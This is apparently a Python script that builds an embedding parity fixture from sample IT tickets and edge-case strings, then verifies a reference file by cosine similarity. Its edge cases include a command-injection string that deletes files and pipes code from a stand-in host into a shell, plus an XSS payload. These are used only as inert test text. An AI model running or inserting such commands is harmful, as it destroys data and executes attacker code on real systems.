"""Writes the embedder's parity fixture: sentence-transformers' embeddings of
the repository's own sample tickets and of edge cases, one JSON object a line
(`text`, `embedding` rounded to 6 decimals).

Run through scripts/make-parity-fixture.sh, which makes the virtualenv.
"""
import argparse
import csv
import json

from sentence_transformers import SentenceTransformer

EDGE_CASES = [
    "",
    "   \n\t  ",
    "printer",
    "Drucker im 3. Stock druckt nicht 🖨️😡 bitte dringend prüfen",
    " ".join(["The VPN client disconnects every few minutes while on the hotel wifi."] * 60),
    "$(rm -rf /); `reboot`; echo $HOME && curl http://evil.example | sh",
    "<script>alert('x')</script><img src=x onerror=alert(1)> &amp; &lt;b&gt;",
    "Сервер недоступен 服务器无法访问 サーバーにアクセスできません الخادم غير متاح",
    "a" * 5000,
    "line one\x00\x07\x1b[31m red \x7f\u0085 next\u2028line",
    "ORA-12154: TNS:could not resolve the connect identifier specified",
    "HELP!!! OUTLOOK NOT SYNCING SINCE 8AM, CALENDAR EMPTY",
]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--model", required=True)
    parser.add_argument("--incidents", required=True)
    parser.add_argument("--tickets", type=int, default=40)
    parser.add_argument("--out", required=True)
    parser.add_argument(
        "--max-seq-length",
        type=int,
        required=True,
        help="the truncation the model's sentence_bert_config.json sets, checked",
    )
    parser.add_argument(
        "--check-against",
        help="a reference made elsewhere (text, embedding per line): its texts are "
        "embedded here too, and every cosine must reach 0.9999",
    )
    args = parser.parse_args()
    with open(args.incidents, encoding="utf-8", newline="") as f:
        rows = sorted(csv.DictReader(f), key=lambda r: r["id"])[: args.tickets]
    texts = [f"{r['title']}\n{r['description']}" for r in rows] + EDGE_CASES
    model = SentenceTransformer(args.model, device="cpu")
    assert model.max_seq_length == args.max_seq_length, model.max_seq_length
    vectors = model.encode(texts, batch_size=16, normalize_embeddings=True)
    with open(args.out, "w", encoding="utf-8") as out:
        for text, vector in zip(texts, vectors):
            line = {"text": text, "embedding": [round(float(x), 6) for x in vector]}
            out.write(json.dumps(line, ensure_ascii=False) + "\n")
    print(f"{len(texts)} reference embeddings written to {args.out}")
    if args.check_against:
        check(model, args.check_against)


def check(model, path):
    """The same model and settings reproduce a reference made elsewhere."""
    with open(path, encoding="utf-8") as f:
        lines = [json.loads(line) for line in f if line.strip()]
    ours = model.encode([l["text"] for l in lines], batch_size=16, normalize_embeddings=True)
    worst = 1.0
    for line, vector in zip(lines, ours):
        theirs = line["embedding"]
        dot = sum(float(a) * b for a, b in zip(vector, theirs))
        norm = sum(b * b for b in theirs) ** 0.5
        worst = min(worst, dot / norm)
    print(f"{path}: {len(lines)} texts, lowest cosine to this setup {worst:.6f}")
    if worst < 0.9999:
        raise SystemExit("this setup does not reproduce that reference")


if __name__ == "__main__":
    main()
